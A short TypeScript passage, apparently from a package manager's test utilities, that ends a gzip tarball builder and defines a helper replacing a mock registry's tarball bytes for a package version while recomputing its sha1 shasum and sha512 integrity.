  return gzipSync(Buffer.concat([...entries.map(entry), Buffer.alloc(1024)]));
}

/** Serves other bytes as a version's tarball, with the integrity the document gives for them. */
function replaceTarball(registry: Registry, name: string, version: string, data: Buffer) {
  const tarball = registry.packages.tarball(name, version) as {data: Buffer, shasum: string, integrity: string};
  tarball.data = data;
  tarball.shasum = createHash(`sha1`).update(data).digest(`hex`);
  tarball.integrity = `sha512-${createHash(`sha512`).update(data).digest(`base64`)}`;
}
